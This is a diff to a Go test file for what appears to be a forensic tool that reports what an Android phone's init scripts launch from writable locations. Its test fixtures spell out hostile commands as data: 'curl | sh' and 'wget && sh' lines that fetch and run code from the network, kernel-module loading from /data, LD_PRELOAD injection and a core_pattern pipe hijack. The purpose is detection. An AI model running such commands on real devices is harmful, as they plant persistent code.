@@ -6,6 +6,8 @@ import (
 	"strings"
 	"testing"
 	"time"
+
+	"gifthorse/evidence"
 )
 
 // launches lays a phone out and returns what it sets going, as text, but for what it runs from read-only places.
@@ -16,7 +18,7 @@ func launches(t testing.TB, files map[string]string) string {
 	}
 	ev := lay(t, files)
 	var b strings.Builder
-	for _, l := range Build(context.Background(), ev, nil).Launches() {
+	for _, l := range Build(context.Background(), ev, nil).Launches {
 		if l.Act == ActRun && l.Writer.Who == "nobody" && l.URL == "" {
 			continue
 		}
@@ -51,8 +53,8 @@ func TestScripts(t *testing.T) {
 		{"X=$(/data/a)\nY=`/data/b`\nf() { /data/c; }\n((/data/d))", "runs /data/a 1\nruns /data/b 2\nruns /data/c 3\nruns /data/d 4\n"},
 		{"cat <<EOF > /x\n/data/a\nEOF\n/data/b", "runs /data/b 4\n"},
 		{"su -c '/data/a; /data/b' root\nsu 0 /data/c\nsh -c \"/data/d\"", "runs /data/a 1\nruns /data/b 1\nruns /data/c 2\nruns /data/d 3\n"},
-		{"insmod /data/m.ko a=b\nmount -o bind /data/a /system/a\nmount -t ext4 /dev/block/x /data\nmount -o remount,rw /system\n",
-			"loads into the kernel /data/m.ko 1\nmounts over a place of the phone /data/a 2\n"},
+		{"insmod /data/m.ko a=b\nmount -o bind /data/a /system/a\nmount -t ext4 /dev/block/x /data\nmount -o bind /data/media /sdcard\nmount -o remount,rw /system\n",
+			"loads into the kernel /data/m.ko 1\nmounts over its system /data/a 2\n"},
 		{"export LD_PRELOAD=/data/l.so:/system/lib/a.so\nCLASSPATH=/data/a.jar app_process / Main\nexec app_process -Djava.class.path=/data/b.jar / Main",
 			"puts on a code path /data/l.so 1\nputs on a code path /system/lib/a.so 1\nputs on a code path /data/a.jar 2\nputs on a code path /data/b.jar 3\n"},
 		{"wget -O /data/a http://h/a && sh /data/a\ncurl -s https://h/b | sh\n",
@@ -62,7 +64,7 @@ func TestScripts(t *testing.T) {
 		{"/system/bin/y.sh /data/z\n", "runs /data/z y.sh 2\n"},
 		{"run-parts /system/etc/init.d", "runs /data/d 01d 2\n"},
 	} {
-		got := launches(t, map[string]string{"init.rc": rc, "system/etc/x.sh": c.script, "system/xbin/busybox": "\x7fELF", "system/bin/y.sh": "#!/system/bin/sh\n$1\n",
+		got := launches(t, map[string]string{"init.rc": rc, "system/etc/x.sh": c.script, "system/xbin/busybox": "\x7fELF", "system/bin/wget": "\x7fELF", "system/bin/curl": "\x7fELF", "system/bin/y.sh": "#!/system/bin/sh\n$1\n",
 			"system/etc/init.d/01d": "#!/bin/sh\n/data/d\n"})
 		got = strings.ReplaceAll(strings.ReplaceAll(got, "at x.sh line ", ""), "at ", "")
 		got = strings.ReplaceAll(got, "line ", "")
@@ -82,6 +84,7 @@ on boot
     exec - system -- ${ro.a}/c
     insmod /data/m.ko
     mount none /data/x /system/x bind
+    mount none /mnt/runtime/default /storage slave bind rec
     mount ext4 loop@/data/y.img /vendor
     export CLASSPATH /data/z.jar
     write /proc/sys/kernel/core_pattern "|/data/h %p"
@@ -93,10 +96,10 @@ service l /system/bin/l
 runs /data/b as shell at init.rc line 4
 runs /data/prop/c as system at init.rc line 5
 loads into the kernel /data/m.ko at init.rc line 6
-mounts over a place of the phone /data/x at init.rc line 7
-mounts over a place of the phone /data/y.img at init.rc line 8
-puts on a code path /data/z.jar at init.rc line 9
-runs /data/h at init.rc line 10
+mounts over its system /data/x at init.rc line 7
+mounts over its system /data/y.img at init.rc line 9
+puts on a code path /data/z.jar at init.rc line 10
+runs /data/h at init.rc line 11
 `
 	if got != want {
 		t.Errorf("got:\n%s, want:\n%s", got, want)
@@ -135,8 +138,17 @@ func TestScriptBounds(t *testing.T) {
 	call := "a='" + strings.Repeat(`sh -c "$a";`, 300) + "'\nsh -c \"$a\"\n"
 	self := strings.Repeat("/system/etc/x.sh\n", 10000)
 	start := time.Now()
-	for _, text := range []string{grow, call, self, strings.Repeat("$(", 100000), strings.Repeat("$(a $(b) ", 100000)} {
-		launches(t, map[string]string{"init.rc": "service s /system/etc/x.sh\n", "system/etc/x.sh": text})
+	for i, text := range []string{grow, call, self, strings.Repeat("$(", 100000), strings.Repeat("$(a $(b) ", 100000)} {
+		p := Build(context.Background(), lay(t, map[string]string{"init.rc": "service s /system/etc/x.sh\n", "system/etc/x.sh": text}), nil)
+		cut := false
+		for _, c := range p.Coverage {
+			for _, g := range c.Gaps {
+				cut = cut || c.What == evidence.Init && g.Reason == evidence.TooLarge
+			}
+		}
+		if want := i == 1 || i == 2; cut != want {
+			t.Errorf("script %d: cut %v, want %v", i, cut, want)
+		}
 	}
 	if d := time.Since(start); d > 10*time.Second {
 		t.Errorf("it took %v", d)
